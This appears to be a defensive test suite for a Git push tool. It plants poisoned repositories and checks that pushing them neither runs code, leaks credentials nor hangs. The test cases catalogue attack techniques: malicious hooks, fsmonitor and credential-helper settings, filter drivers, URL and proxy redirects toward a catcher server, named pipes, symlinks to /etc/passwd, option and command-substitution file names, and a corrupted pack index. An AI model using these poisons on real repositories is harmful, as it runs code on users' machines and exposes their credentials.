import { existsSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describeInShells, SCRIPT_TOOLS, testsThatNeed } from '../support/tools';
import { cleanUp } from './support/clean-up';
import { GitServer } from './support/git-server';
import { branch, credentials, gitSecret } from './support/push-target';
import { Repository } from './support/repository';
import { run, sh } from './support/user';
import { Workspace, type PushResult } from './support/workspace';

const { test } = testsThatNeed(...SCRIPT_TOOLS);

/** `pushed`, or the termination message of a refusal. */
type Outcome = 'pushed' | RegExp;
/** Title, shell commands that poison the tree, and what becomes of the push. `$RUN` is a program that leaves a mark. */
type Poison = readonly [title: string, script: string, outcome: Outcome];

const HOOKS = [
  ...[
    'pre-commit',
    'prepare-commit-msg',
    'commit-msg',
    'post-commit',
    'pre-merge-commit',
    'post-checkout',
    'post-merge',
  ],
  ...['pre-push', 'pre-auto-gc', 'post-rewrite', 'post-index-change', 'reference-transaction', 'fsmonitor-watchman'],
  ...['pre-receive', 'update', 'post-receive', 'post-update', 'push-to-checkout', 'proc-receive', 'sendemail-validate'],
];

const config = (key: string, value: string, more = ''): Poison => [
  `configuration: ${key}`,
  `git config ${key} "${value}"; ${more}`,
  'pushed',
];

/** A repository in `sub` whose git commands run the program. */
const NESTED = `git init -q sub; git -C sub commit -q --allow-empty -m sub
  printf '#!/bin/sh\\n"%s"\\n' "$RUN" >hook; chmod +x hook; mkdir -p sub/.git/hooks
  for hook in ${HOOKS.join(' ')}; do cp hook sub/.git/hooks/$hook; done; rm hook; echo x >sub/file`;
const POISON_NESTED = 'git -C sub config core.fsmonitor "$RUN"';

const RUNS_CODE: readonly Poison[] = [
  [
    'hooks of every kind',
    `mkdir -p .git/hooks; for hook in ${HOOKS.join(' ')}; do
      printf '#!/bin/sh\\n"%s"\\n' "$RUN" >.git/hooks/$hook; chmod +x .git/hooks/$hook; done`,
    'pushed',
  ],
  config('core.fsmonitor', '$RUN'),
  config('core.hooksPath', 'hooks', `mkdir hooks; cp "$RUN" hooks/pre-commit; cp "$RUN" hooks/pre-push`),
  config('credential.helper', '!$RUN'),
  config('commit.gpgSign', 'true', 'git config gpg.program "$RUN"'),
  config('include.path', '../evil.cfg', `printf '[core]\\n fsmonitor = %s\\n' "$RUN" >evil.cfg`),
  config('includeIf.gitdir:/.path', '../evil.cfg', `printf '[core]\\n fsmonitor = %s\\n' "$RUN" >evil.cfg`),
  config(
    'extensions.worktreeConfig',
    'true',
    `git config core.repositoryFormatVersion 1; printf '[core]\\n fsmonitor = %s\\n' "$RUN" >.git/config.worktree`,
  ),
  config(
    'filter.evil.clean',
    '$RUN',
    'git config filter.evil.smudge "$RUN"; echo "change filter=evil" >.git/info/attributes',
  ),
  [
    'filter.evil.process in .gitattributes',
    `git config filter.evil.process "$RUN"; echo '* filter=evil' >.gitattributes`,
    /need a filter.*: .*change: filter: evil/,
  ],
  ['a recorded nested repository', `${NESTED}; git add sub; git commit -qm sub; ${POISON_NESTED}`, 'pushed'],
];

const SENDS_ELSEWHERE: readonly Poison[] = [
  config('url.$ELSEWHERE.insteadOf', '$SERVER'),
  config('url.$ELSEWHERE.pushInsteadOf', '$SERVER'),
  config('http.proxy', '$ELSEWHERE'),
];

const HANGS: readonly Poison[] = [
  ['a named pipe as .gitignore', 'mkfifo .gitignore', /contains a named pipe: \.gitignore$/],
  ['a named pipe as .gitattributes', 'mkfifo .gitattributes', /contains a named pipe: \.gitattributes$/],
  ['a named pipe as HEAD', 'rm .git/HEAD; mkfifo .git/HEAD', /contains a named pipe: \.git\/HEAD$/],
  ['a named pipe as a ref', 'rm .git/refs/heads/main; mkfifo .git/refs/heads/main', /contains a named pipe/],
  [
    'a named pipe as an object',
    'id=$(git hash-object change | sed s,..,\\&/,); mkdir -p .git/objects/${id%/*}; mkfifo .git/objects/$id',
    /contains a named pipe/,
  ],
  [
    'a named pipe as a pack index',
    'git repack -adq; index=$(echo .git/objects/pack/*.idx); rm -f $index; mkfifo $index',
    /contains a named pipe/,
  ],
  [
    'a named pipe as a commit-graph',
    'mkdir -p .git/objects/info; mkfifo .git/objects/info/commit-graph',
    /contains a named pipe/,
  ],
  [
    'a named pipe as the alternates',
    'mkdir -p .git/objects/info; mkfifo .git/objects/info/alternates',
    /contains a named pipe/,
  ],
  ['a named pipe as a multi-pack index', 'mkfifo .git/objects/pack/multi-pack-index', /contains a named pipe/],
  [
    'a named pipe as HEAD of a nested repository',
    `${NESTED}; rm sub/.git/HEAD; mkfifo sub/.git/HEAD`,
    /contains a named pipe/,
  ],
];

const OTHERS: readonly Poison[] = [
  config('core.sshCommand', '$RUN'),
  config('core.worktree', '/etc'),
  config('diff.external', '$RUN', `git config diff.evil.textconv "$RUN"; echo '* diff=evil' >.git/info/attributes`),
  config(
    'core.alternateRefsCommand',
    '$RUN',
    'mkdir -p .git/objects/info; git init -q ../../other; echo "$PWD/../../other/.git/objects" >.git/objects/info/alternates',
  ),
  config('uploadpack.packObjectsHook', '$RUN'),
  config(
    'core.askPass',
    '$RUN',
    'git config core.editor "$RUN"; git config core.pager "$RUN"; git config core.gitProxy "$RUN"',
  ),
  config(
    'remote.origin.receivepack',
    '$RUN',
    'git config remote.origin.uploadpack "$RUN"; git config remote.origin.vcs evil',
  ),
  config('core.attributesFile', '../../../evil', 'git config core.excludesFile ../../../evil'),
  config('core.bare', 'true'),
  [
    'a promisor remote and a missing object',
    `git config core.repositoryFormatVersion 1; git config extensions.partialClone origin; git config remote.origin.promisor true
    git config remote.origin.uploadpack "$RUN"; echo lost >lost; git add lost; git commit -qm lost; id=$(git rev-parse HEAD:lost)
    rm -f lost .git/objects/$(echo $id | cut -c 1-2)/$(echo $id | cut -c 3-)`,
    /cannot be pushed: .*(missing|unable to read|bad object|lost)/s,
  ],
  ['alternates that lead elsewhere', 'mkdir -p .git/objects/info; echo /etc >.git/objects/info/alternates', 'pushed'],
  ['.git that is a file', 'mv .git ../git; echo "gitdir: ../git" >.git', /has no folder \.git with objects$/],
  ['.git that is a link', 'mv .git ../git; ln -s ../git .git', /has no folder \.git with objects$/],
  [
    'objects that are a link',
    'mv .git/objects ../objects; ln -s ../../objects .git/objects',
    /has no folder \.git with objects$/,
  ],
  [
    'HEAD that is a link',
    'mv .git/HEAD ../HEAD; ln -s ../../HEAD .git/HEAD',
    /HEAD of the tree .* is not a branch or a commit$/,
  ],
  [
    'HEAD that leads out of .git',
    'echo "ref: refs/heads/../../../secret" >.git/HEAD; echo x >secret',
    /HEAD of the tree .* is not/,
  ],
  ['HEAD with an option as its branch', 'echo "ref: refs/--output=x" >.git/HEAD', /HEAD of the tree .* is not/],
  ['HEAD that is an option', 'echo --all >.git/HEAD', /HEAD of the tree .* is not/],
  ['HEAD without a line end', 'head -c 3000000 /dev/zero | tr "\\0" a >.git/HEAD', /HEAD of the tree .* is not/],
  [
    'a ref that is a link',
    'mv .git/refs/heads/main ../id; ln -s ../../../../id .git/refs/heads/main',
    /HEAD of the tree .* is not/,
  ],
  ['a folder of refs that is a link', 'mv .git/refs ../refs; ln -s ../../refs .git/refs', /HEAD of the tree .* is not/],
  [
    'packed refs that are a link',
    'git pack-refs --all; mv .git/packed-refs ..; ln -s ../../packed-refs .git/',
    /HEAD of the tree .* is not/,
  ],
  ['a branch of another branch', 'git symbolic-ref refs/heads/main refs/heads/other', /HEAD of the tree .* is not/],
  [
    'an object that is a link',
    `mkdir -p .git/objects/ab; ln -s /etc/passwd .git/objects/ab/${'c'.repeat(38)}`,
    /has an object that is not a file/,
  ],
  [
    'a folder of objects that is a link',
    'mv .git/objects/pack ../pack; ln -s ../../../pack .git/objects/pack',
    /has an object that is not a file/,
  ],
  ['a pack index that lies', '$LIE', /not valid/],
  [
    'a commit-graph that lies',
    'mkdir -p .git/objects/info; head -c 2000 /dev/urandom >.git/objects/info/commit-graph',
    'pushed',
  ],
  [
    'a multi-pack index and a bitmap that lie',
    'git repack -adq; for end in bitmap rev; do rm -f .git/objects/pack/*.$end; head -c 2000 /dev/urandom >$(echo .git/objects/pack/*.pack | sed s/pack$/$end/); done; head -c 2000 /dev/urandom >.git/objects/pack/multi-pack-index',
    'pushed',
  ],
  ['replaced objects', 'git replace HEAD $(git commit-tree -m evil HEAD^{tree})', 'pushed'],
  ['grafts', 'mkdir -p .git/info; git rev-parse HEAD >.git/info/grafts', 'pushed'],
  ['a shallow file with options', 'printf -- "--all\\n%s\\n" $(git rev-parse HEAD) >.git/shallow', 'pushed'],
  ['an index with other content', 'head -c 2000 /dev/urandom >.git/index', 'pushed'],
  ['an index that hides changes', 'git update-index --assume-unchanged first; echo hidden >>first', 'pushed'],
  ['ident', `echo '* ident' >.gitattributes; echo '$Id$' >ident`, 'pushed'],
  [
    'an encoding that fails',
    `echo '*.txt working-tree-encoding=UTF-16' >.gitattributes; echo x >a.txt`,
    /cannot be pushed: .*UTF-16/s,
  ],
  [
    'files of Git LFS',
    `echo '*.bin filter=lfs' >.gitattributes; echo x >a.bin`,
    /need a filter.*: a\.bin: filter: lfs/,
  ],
  [
    'a nested repository',
    `${NESTED}; ${POISON_NESTED}`,
    /contains other git repositories: sub\/ - remove or ignore them, or set nestedRepositories to "files"$/,
  ],
  ['a nested repository that is ignored', `${NESTED}; ${POISON_NESTED}; echo sub >.gitignore`, 'pushed'],
  [
    'a nested repository that is a file',
    'mkdir sub; git init -q --separate-git-dir ../nested sub; git -C sub commit -q --allow-empty -m x; git -C sub config core.fsmonitor "$RUN"',
    /contains other git repositories/,
  ],
  [
    'a submodule that runs a program',
    `git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub; printf '[submodule "sub"]\\n path = sub\\n url = -x\\n' >.gitmodules; git add .gitmodules; git commit -qm sub`,
    /not valid: .*(gitmodules|fsck)/s,
  ],
  [
    'a folder .git in a commit',
    `tree=$(printf '100644 blob %s\\t.git\\n' $(git rev-parse HEAD:first) | git mktree); git reset -q --soft $(git commit-tree -p HEAD -m evil $tree)`,
    /not valid|cannot be pushed/,
  ],
  ['a sparse checkout', 'mkdir -p .git/info; echo /x >.git/info/sparse-checkout', /is a sparse checkout/],
  [
    'programs with the names of tools',
    'for name in git sh find sed awk timeout grep head; do cp "$RUN" $name; done',
    'pushed',
  ],
  [
    'odd names',
    `touch -- -x --help '$(touch x)' '\`touch y\`' ':(exclude)first' '"quoted"' 'a
b'; ln -s / root; ln -s . loop`,
    'pushed',
  ],
];

const ALL = [...RUNS_CODE, ...SENDS_ELSEWHERE, ...HANGS, ...OTHERS];

/** Changes a pack index of the tree: one ID leads to the content of another. */
const LIE = `echo aaaa >one; echo bbbb >two; git add one two; git commit -qm lie; git repack -adq
  index=$(echo .git/objects/pack/*.idx); chmod u+w $index
  perl -e '
    my ($file, @ids) = @ARGV; local $/; open my $in, "<", $file; my $data = <$in>;
    my $count = unpack "N", substr $data, 8 + 255 * 4, 4; my $names = 8 + 1024;
    my %at; $at{unpack "H*", substr $data, $names + $_ * 20, 20} = $_ for 0 .. $count - 1;
    my ($one, $two) = map { $names + $count * 24 + 4 * $at{$_} } @ids;
    substr($data, $one, 4) = substr $data, $two, 4;
    open my $out, ">", $file; print $out $data' $index $(git rev-parse HEAD:one HEAD:two)`;

let repository: Repository;
let server: GitServer;
let url: string;
let catcher: Server;
let caught: string[];
let workspace: Workspace;
let mark: string;

beforeAll(async () => {
  repository = new Repository();
  server = await GitServer.start({ ...repository, credentials });
  url = server.url(repository.name);
  catcher = createServer((request, response) => {
    caught.push(`${request.method} ${request.url} ${request.headers.authorization}`);
    response.writeHead(401, { 'WWW-Authenticate': 'Basic realm="git"' }).end();
  });
  await new Promise<void>((resolve) => catcher.listen(0, '127.0.0.1', resolve));
});

beforeEach(async () => {
  caught = [];
  repository.git(`update-ref -d refs/heads/${branch}`);
  workspace = new Workspace();
  workspace.setSecret(credentials);
  mark = join(workspace.base, 'mark');
  expect(await workspace.clone({ url, gitSecret })).toMatchObject({ code: 0 });
});

afterEach(() => {
  workspace.sh('find . -type p -exec rm {} +');
});

afterAll(async () => {
  await new Promise((resolve) => catcher.close(resolve));
  await cleanUp(server);
});

/** Changes a file of the tree and poisons the tree. */
function poison(script: string): void {
  const program = join(workspace.base, 'evil');
  writeFileSync(program, `#!/bin/sh\necho "$0 $*" >>${mark}\ncat >/dev/null\n`, { mode: 0o755 });
  const elsewhere = `http://127.0.0.1:${(catcher.address() as AddressInfo).port}/`;
  workspace.sh(`cd trees/build; RUN='${program}'; ELSEWHERE='${elsewhere}'; SERVER='${server.origin}/'; echo change >change
    mkdir -p .git/info; git config user.name task; git config user.email task@example.com
    ${script.replace('$LIE', () => LIE)}`);
  // Poisoning may run the program too.
  rmSync(mark, { force: true });
}

function expectNoHarm({ log, termination }: PushResult): void {
  expect(existsSync(mark)).toBe(false);
  expect(caught).toEqual([]);
  for (const text of [log, termination]) expect(text).not.toContain(credentials.password);
  expect(sh(workspace.base, `grep -rlF ${credentials.password} claim push-* || :`)).toBe('');
}

function pushedFiles(): string[] {
  return repository.git(`ls-tree -r --name-only ${branch}`).split('\n');
}

describeInShells('a push from a tree with', (shell) => {
  // The image's shell is busybox.
  test.each(shell === 'sh' ? RUNS_CODE : ALL)('%s', async (_, script, outcome) => {
    poison(script);
    const result = await workspace.push({ url, gitSecret, branch, shell, message: 'publish' });
    expectNoHarm(result);
    if (outcome === 'pushed') {
      expect(result).toMatchObject({ code: 0 });
      expect(pushedFiles()).toEqual(expect.arrayContaining(['change', 'first']));
      expect(repository.git('fsck --strict --no-dangling')).toBe('');
    } else {
      expect(result.termination).toMatch(outcome);
      expect(result.code).toBe(65);
      expect(repository.git('for-each-ref refs/heads/results')).toBe('');
    }
  });
});

/** What a user would write: git in the tree, with the credential. */
function pushPlainly(): Promise<string> {
  const helper = `!f() { echo username=${credentials.username}; echo password=${credentials.password}; }; f`;
  const limited = (command: string): string =>
    `timeout 3 git ${command} || test $? -ne 124 || echo ${command} >>${mark}`;
  return run(
    workspace.tree('build'),
    'sh',
    '-c',
    `exec >/dev/null 2>&1 </dev/null; export GIT_TERMINAL_PROMPT=0
    export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=credential.helper GIT_CONFIG_VALUE_0='${helper}'
    ${limited('add -A')}; ${limited('commit -qm publish')}; ${limited(`push ${url} HEAD:refs/heads/${branch}`)}`,
  );
}

// The others do not harm a plain push with git 2.39, or it just fails.
test.each([...RUNS_CODE, ...SENDS_ELSEWHERE, ...HANGS])('a plain push is harmed by %s', async (_, script) => {
  poison(script);
  await pushPlainly();
  expect(existsSync(mark) || caught.length > 0).toBe(true);
});
